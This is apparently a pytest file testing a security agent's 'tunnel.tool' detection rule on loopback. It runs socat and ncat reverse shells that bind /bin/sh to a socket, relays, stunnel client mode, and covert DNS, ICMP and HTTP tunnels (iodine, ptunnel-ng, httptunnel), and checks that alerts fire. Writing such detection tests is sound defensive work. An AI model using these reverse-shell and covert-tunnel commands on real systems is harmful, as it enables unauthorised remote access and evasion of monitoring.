# SPDX-License-Identifier: Apache-2.0
"""tunnel.tool against Debian's real tools on loopback: socat and ncat shells and relays, stunnel4 in client mode,
iodine and ptunnel-ng, and netcat scans and listeners that must stay quiet. One agent for the module."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from tests.kernel.e2e import Agent, Listener, UnderSh, WebServers, free_port, wait_port

pytestmark = pytest.mark.kernel


def _alert(agent: Agent, pid: int, timeout: float = 5.0) -> dict[str, Any]:
    found = agent.wait_alert(lambda a: a["rule"] == "tunnel.tool" and a["process"]["pid"] == pid, timeout)
    assert found is not None, agent.log_path.read_text()[-3000:]
    return found[0]


def _assert_lineage(alert: dict[str, Any], run: UnderSh) -> None:
    assert alert["ancestors"][0]["pid"] == run.sh.pid and alert["ancestors"][0]["comm"] == "sh"
    assert alert["ancestors"][1]["pid"] == os.getpid()  # the test that started sh


def test_socat_exec_shell_is_high(agent: Agent) -> None:
    """socat connecting a loopback socket to EXEC:/bin/sh is named, with its shell parent, at high severity."""
    listener = Listener(greeting=b"exit\n")
    run = UnderSh(["socat", f"TCP:127.0.0.1:{listener.port}", "EXEC:/bin/sh"])
    try:
        alert = _alert(agent, run.pid)
        assert alert["severity"] == "high" and alert["evidence"]["tool"] == "socat"
        assert alert["process"]["exe"] == "/usr/bin/socat"
        assert alert["evidence"]["markers"] == [f"TCP:127.0.0.1:{listener.port}", "EXEC:/bin/sh"]
        _assert_lineage(alert, run)
        assert listener.accepted.wait(5)  # socat really connected its shell
    finally:
        run.stop()
        listener.close()


def test_socat_relay_is_medium(agent: Agent) -> None:
    """socat relaying a loopback listener to another socket is a medium alert, and the relay really carries data."""
    backend = Listener()
    front = free_port()
    run = UnderSh(["socat", f"TCP-LISTEN:{front},bind=127.0.0.1,reuseaddr", f"TCP:127.0.0.1:{backend.port}"])
    try:
        alert = _alert(agent, run.pid)
        assert (alert["severity"], alert["evidence"]["mode"]) == ("medium", "socat relays two sockets")
        _assert_lineage(alert, run)
        wait_port(front)
        assert backend.accepted.wait(5)
    finally:
        run.stop()
        backend.close()


def test_ncat_exec_shell_is_high(agent: Agent) -> None:
    """`ncat -e /bin/sh 127.0.0.1 PORT` (a reverse shell) is named at high severity with its lineage."""
    listener = Listener(greeting=b"exit\n")
    run = UnderSh(["ncat", "-e", "/bin/sh", "127.0.0.1", str(listener.port)])
    try:
        alert = _alert(agent, run.pid)
        assert alert["severity"] == "high" and alert["evidence"]["markers"] == ["-e", "/bin/sh"]
        assert alert["process"]["exe"] == "/usr/bin/ncat"
        _assert_lineage(alert, run)
        assert listener.accepted.wait(5)
    finally:
        run.stop()
        listener.close()


@pytest.mark.skipif(shutil.which("stunnel4") is None, reason="stunnel4 is not installed (Debian package stunnel4)")
def test_stunnel_client_mode_is_medium(agent: Agent, workdir: Path) -> None:
    """stunnel4 with `client = yes` is named when it opens TLS to its backend: the ClientHello is its evidence."""
    web = WebServers(workdir)
    accept = free_port()
    config = workdir / "stunnel.conf"
    config.write_text(
        f"foreground = yes\npid =\n[t]\nclient = yes\naccept = 127.0.0.1:{accept}\n"
        f"connect = 127.0.0.1:{web.https_port}\n"
    )
    run = UnderSh(["stunnel4", str(config)], stderr=subprocess.DEVNULL)
    try:
        wait_port(accept)
        with socket.create_connection(("127.0.0.1", accept), timeout=5) as s:
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
            s.recv(64)  # the HTTPS server's answer, through stunnel's TLS
        alert = _alert(agent, run.pid)
        assert (alert["severity"], alert["evidence"]["handshake"]) == ("medium", "stunnel-client")
        assert alert["network"]["dport"] == web.https_port
        _assert_lineage(alert, run)
    finally:
        run.stop()
        web.close()


@pytest.mark.parametrize(
    ("binary", "args"),
    [
        # nameserver 127.0.0.1 given, so iodine asks nothing but loopback
        ("iodine", ["-f", "-P", "secretpassword", "127.0.0.1", "t1.example.test"]),
        ("ptunnel-ng", ["-p127.0.0.1", "-l{port}", "-r127.0.0.1", "-R22"]),
    ],
)
def test_covert_transport_is_high(agent: Agent, binary: str, args: list[str]) -> None:
    """iodine (DNS) and ptunnel-ng (ICMP) clients are named at high severity when they start."""
    if shutil.which(binary) is None:
        pytest.skip(f"{binary} is not installed (Debian package {binary})")
    port = str(free_port())
    run = UnderSh([binary, *(a.replace("{port}", port) for a in args)], stderr=subprocess.DEVNULL)
    try:
        alert = _alert(agent, run.pid)
        assert alert["severity"] == "high" and alert["evidence"]["tool"] in ("iodine", "ptunnel")
        _assert_lineage(alert, run)
    finally:
        run.stop()


def test_netcat_and_socat_everyday_use_is_quiet(agent: Agent) -> None:
    """`nc -z` port checks, an `nc -l` listener and interactive `socat - TCP:` raise no alert."""
    listener = Listener()
    quiet: list[int] = []
    try:
        for argv in (
            ["nc", "-z", "127.0.0.1", str(listener.port)],
            ["ncat", "-z", "-w", "2", "127.0.0.1", str(listener.port)],
            ["socat", "-u", "-", f"TCP:127.0.0.1:{listener.port}"],
        ):
            proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL)
            assert proc.wait(timeout=10) == 0, argv
            quiet.append(proc.pid)
        port = free_port()
        nc = subprocess.Popen(["nc", "-l", "127.0.0.1", str(port)], stdin=subprocess.DEVNULL)
        wait_port(port)  # connects and hangs up: the listener is really up
        nc.terminate()
        nc.wait(timeout=10)
        quiet.append(nc.pid)
    finally:
        listener.close()
    time.sleep(1.5)
    assert [a for a in agent.alerts() if a["process"]["pid"] in quiet] == []


@pytest.mark.skipif(shutil.which("htc") is None, reason="httptunnel is not installed (Debian package httptunnel)")
def test_httptunnel_client_is_high(agent: Agent) -> None:
    """htc carrying a TCP stream to hts over HTTP on loopback is named (a covert transport), high, on its pid."""
    backend = Listener()
    hts_port, local = free_port(), free_port()
    argv = ["hts", "-w", "-F", f"127.0.0.1:{backend.port}", str(hts_port)]  # -w: no daemon, so the test stops it
    server = subprocess.Popen(argv, stderr=subprocess.DEVNULL)
    run = None
    try:
        wait_port(hts_port)
        run = UnderSh(["htc", "-w", "-F", str(local), f"127.0.0.1:{hts_port}"], stderr=subprocess.DEVNULL)
        alert = _alert(agent, run.pid)
        assert alert["severity"] == "high" and alert["evidence"]["tool"] == "httptunnel"
        _assert_lineage(alert, run)
        wait_port(local)
        with socket.create_connection(("127.0.0.1", local), timeout=5) as s:
            s.sendall(b"through http\n")
        assert backend.accepted.wait(10)  # the stream really crossed the HTTP tunnel
    finally:
        if run is not None:
            run.stop()
        server.terminate()
        server.wait(timeout=10)
        backend.close()
